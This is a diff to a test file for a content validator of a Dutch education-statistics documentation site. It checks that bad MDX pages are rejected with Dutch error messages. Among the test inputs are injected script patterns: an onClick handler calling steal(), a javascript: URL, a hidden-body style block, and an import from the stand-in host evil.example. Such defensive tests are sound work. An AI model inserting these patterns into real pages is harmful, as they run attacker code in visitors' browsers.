@@ -11,7 +11,7 @@ import { checkContent, type Problem } from '../../src/lib/check.ts';
 
 const FIXTURE = join(import.meta.dirname, '..', 'fixtures', 'site');
 const INDICATOR = 'content/docs/vo/indicatoren/4-zittenblijven.mdx';
-const CHAPTER = 'content/docs/staat/6-professionals.mdx';
+const CHAPTER = 'content/docs/staat/hoofdstukken/6-professionals.mdx';
 const roots: string[] = [];
 
 /** A copy of the valid mini site with one file changed by `edit`. */
@@ -65,7 +65,7 @@ const CASES: Case[] = [
   { name: 'unknown source', edit: replace('sources: [dashboard-vo-2020]\nrelated', 'sources: [dashboard-vo-2021]\nrelated'), expect: { field: 'sources.0', message: /onbekende bron "dashboard-vo-2021"/ } },
   { name: 'dangling related link (section that does not exist)', edit: replace('section: "6.2.1"\n---', 'section: "6.9"\n---'), expect: { field: 'related.0.section', message: /paragraaf 6\.9 bestaat niet in staat-2024/ } },
   { name: 'related link to a report without chapters', edit: replace('  - report: staat-2024\n    section: "6.2.1"', '  - report: staat-2023\n    section: "6.2.1"'), expect: { field: 'related.0.section', message: /rapport "staat-2023" heeft geen hoofdstukpagina's; kies uit: staat-2024/ } },
-  { name: 'duplicate indicator number', file: 'content/docs/vo/indicatoren/4-kopie.mdx', edit: () => readFileSync(join(FIXTURE, INDICATOR), 'utf8'), expect: { file: INDICATOR, line: 6, field: 'number', message: /Indicator 4 van sectorakkoord-vo bestaat al in content\/docs\/vo\/indicatoren\/4-/ } },
+  { name: 'duplicate indicator number: the added file is blamed', file: 'content/docs/vo/indicatoren/4-kopie.mdx', edit: () => readFileSync(join(FIXTURE, INDICATOR), 'utf8'), expect: { line: 6, field: 'number', message: /Indicator 4 van sectorakkoord-vo bestaat al in content\/docs\/vo\/indicatoren\/4-zittenblijven\.mdx/ } },
   { name: 'missing title', edit: replace('title: Zittenblijven\n', ''), expect: { line: 2, field: 'title', message: /de titel ontbreekt.*title: "/ } },
   { name: 'invalid YAML: wrong indentation', edit: replace('    value: 5.8\n', '     value: 5.8\n'), expect: { line: 17, message: /inspringen klopt niet.*vergelijk met regel 16 \("value: 5\.8"\)/ } },
   { name: 'invalid YAML: a tab as indentation', edit: replace('  value: 3.8\n', '\tvalue: 3.8\n'), expect: { line: 12, message: /tab als inspringing.*gebruik spaties/ } },
@@ -88,8 +88,8 @@ const CASES: Case[] = [
   { name: 'a <style> block', edit: (t) => `${t}\n<style>body { display: none }</style>\n`, expect: { message: /<style> is niet toegestaan/ } },
   { name: 'an event-handler attribute', edit: (t) => `${t}\n<span onClick="steal()">klik</span>\n`, expect: { message: /het attribuut "onClick" voert code uit/ } },
   { name: 'a javascript: URL', edit: (t) => `${t}\n[klik](javascript:alert(1))\n`, expect: { message: /"javascript:".*niet toegestaan/ } },
-  { name: 'an import from outside the project components', file: CHAPTER, edit: replace("import Section from '~/components/Section.astro';", "import Section from '~/components/Section.astro';\nimport evil from 'https://evil.example/x.js';"), expect: { line: 20, message: /import uit "https:\/\/evil\.example\/x\.js" is niet toegestaan/ } },
-  { name: 'an export in the body', edit: (t) => `${t}\nexport const x = 1;\n`, expect: { message: /een "export" in een pagina is niet toegestaan/ } },
+  { name: 'an import from outside the project components', file: CHAPTER, edit: replace('<Section n="6.1" />', "import evil from 'https://evil.example/x.js';\n\n<Section n=\"6.1\" />"), expect: { line: 19, message: /een "import" is niet toegestaan in een pagina: hij kan code uitvoeren/ } },
+  { name: 'an export in the body', edit: (t) => `${t}\nexport const x = 1;\n`, expect: { line: 37, message: /een "export" is niet toegestaan in een pagina; zet gegevens in de frontmatter/ } },
 ];
 
 describe('the valid mini site', () => {
